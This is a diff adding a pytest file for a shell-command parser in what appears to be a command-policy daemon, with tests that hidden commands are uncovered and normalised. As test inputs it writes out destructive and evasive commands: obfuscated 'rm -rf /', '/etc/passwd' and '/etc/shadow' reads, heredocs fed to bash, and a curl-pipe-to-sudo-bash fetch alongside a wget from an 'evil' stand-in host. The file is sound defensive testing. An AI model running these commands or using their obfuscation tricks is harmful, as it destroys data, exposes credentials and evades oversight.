@@ -1,0 +1,121 @@
+"""Shell parsing: every command a line would really run, normalised."""
+
+from __future__ import annotations
+
+import pytest
+
+from rampartd.policy.shell import parse_command
+
+
+def texts(command: str) -> list[str]:
+    parsed = parse_command(command)
+    assert parsed.problem is None, parsed.problem
+    return [c.text for c in parsed.components]
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ("git status", ["git status"]),
+    ("  git   status  ", ["git status"]),
+    ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
+    ("a\nb\n\nc", ["a", "b", "c"]),
+    ("ls | grep x | wc -l", ["ls", "grep x", "wc -l"]),
+    ("'r'm -rf /", ["rm -rf /"]),
+    ("r\\m -rf /", ["rm -rf /"]),
+    ('"rm" -rf "/"', ["rm -rf /"]),
+    ("$'\\x72\\x6d' x", ["rm x"]),
+    ("/usr/bin/rm x", ["rm x"]),
+    ("FOO=1 BAR='a b' rm x", ["rm x"]),
+    ("env -i A=1 nohup timeout -s KILL 5 nice -n 10 command rm x", ["rm x"]),
+    ("sudo -u root -- doas exec rm x", ["rm x"]),
+    ("echo $(rm x) `ls y`", ["rm x", "ls y", "echo $( rm x ) $( ls y )"]),
+    ("echo \"$(rm x)\"", ["rm x", "echo $( rm x )"]),
+    ("diff <(ls a) >(cat)", ["ls a", "cat", "diff <( ls a ) >( cat )"]),
+    ("bash -c 'rm x; ls'", ["rm x", "ls"]),
+    ("sh -ec \"cd /tmp && rm x\"", ["cd /tmp", "rm x"]),
+    ("eval 'rm x'", ["rm x"]),
+    ("su -c 'rm x' root", ["rm x"]),
+    ("watch -n 5 'ls -la'", ["ls -la"]),
+    ("env -S 'rm x'", ["rm x"]),
+    ("X=rm; $X x", ["rm x"]),
+    ("X='rm -rf'; $X /", ["rm -rf /"]),
+    ("{rm,-rf,/}", ["rm -rf /"]),
+    ("cat /etc/{passwd,shadow}", ["cat /etc/passwd /etc/shadow"]),
+    ("rm -rf $HOME", ["rm -rf ~"]),
+    ("find . -name x -exec rm -f {} \\;", ["find . -name x -exec rm -f {} ;", "rm -f {}"]),
+    ("ls | xargs -n1 rm", ["ls", "rm"]),
+    ("(cd a && make) > log 2>&1", ["cd a", "make"]),
+    ("{ ls; rm x; }", ["ls", "rm x"]),
+    ("if [ -f x ]; then rm x; else ls; fi", ["[ -f x ]", "rm x", "ls"]),
+    ("for f in *.py; do rm $f; done", ["rm ${f}"]),
+    ("while true; do sleep 1; done", ["true", "sleep 1"]),
+    ("ls # rm -rf /", ["ls"]),
+    ("git commit -m 'a && b; c'", ["git commit -m a && b; c"]),
+    ("echo hi > out.txt 2>/dev/null", ["echo hi > out.txt 2> /dev/null"]),
+    ("echo $((1 + $(rm x)))", ["rm x", "echo $((1 + $(rm x)))"]),
+    ("ls \\\n  -la", ["ls -la"]),
+    ("command -v rm", ["command -v rm"]),
+    ("sudo -v", ["sudo -v"]),
+])
+def test_components(command: str, expected: list[str]) -> None:
+    assert texts(command) == expected
+
+
+def test_heredocs_and_herestrings_fed_to_shells_are_parsed() -> None:
+    assert "rm -rf /" in texts("bash <<EOF\nrm -rf /\nEOF\necho done")
+    assert "rm -rf /" in texts("sh <<-'X'\n\trm -rf /\n\tX")
+    assert "rm x" in texts("bash <<< 'rm x'")
+    # Data heredocs stay data, but unquoted ones still run their substitutions.
+    assert texts("cat <<'EOF' > f\n$(rm x)\nEOF") == ["cat << EOF > f"]
+    assert "rm x" in texts("cat <<EOF > f\n$(rm x)\nEOF")
+
+
+def test_echo_piped_to_a_shell_is_parsed() -> None:
+    parsed = parse_command("echo 'rm -rf /' | sh")
+    assert "rm -rf /" in [c.text for c in parsed.components]
+    assert parsed.pipelines == ("echo rm -rf / | sh",)
+
+
+def test_forms_keep_launchers() -> None:
+    comp = parse_command("FOO=1 nohup sudo -u root rm x").components[0]
+    assert comp.text == "rm x" and comp.program == "rm"
+    assert comp.forms == ("rm x", "nohup sudo -u root rm x", "sudo -u root rm x")
+    assert comp.launchers == ("nohup", "sudo")
+    inner = parse_command("sudo bash -c 'rm x'").components[0]
+    assert inner.forms == ("rm x", "sudo rm x")
+
+
+def test_pipelines_and_urls() -> None:
+    parsed = parse_command("curl -fsSL https://Get.Example/x | sudo bash && wget evil.test/y")
+    assert parsed.pipelines == ("curl -fsSL https://Get.Example/x | bash",)
+    assert parsed.urls == ("https://Get.Example/x", "http://evil.test/y")
+
+
+@pytest.mark.parametrize(("command", "reason"), [
+    ("echo 'open", "unterminated single quote"),
+    ('echo "open', "unterminated double quote"),
+    ("echo $(ls", "missing ')'"),
+    ("echo `ls", "unterminated backquote"),
+    ("ls &&", "expected a command"),
+    ("; ls", "unexpected ';'"),
+    ("ls >", "without a target"),
+    ("case x in a) ls;; esac", "'case' is not supported"),
+    ("f() { rm x; }; f", "not supported"),
+    ("a=(1 2)", "not supported"),
+    ("$CMD x", "only known at run time"),
+    ("$(echo rm) x", "only known at run time"),
+    ("/???/r? x", "only known at run time"),
+    ("sh -c \"$X\"", "only known at run time"),
+    ("bash -c", "without a command"),
+    ("x" * 70000, "longer than 64 KiB"),
+    ("ls\x00", "NUL"),
+    ("$(" * 200 + ")" * 200, "nested too deeply"),
+])
+def test_problems_are_reported(command: str, reason: str) -> None:
+    problem = parse_command(command).problem
+    assert problem is not None and reason in problem
+
+
+def test_partial_components_survive_a_problem() -> None:
+    parsed = parse_command("rm -rf / && echo 'open")
+    assert parsed.problem is not None
+    assert [c.text for c in parsed.components] == ["rm -rf /"]
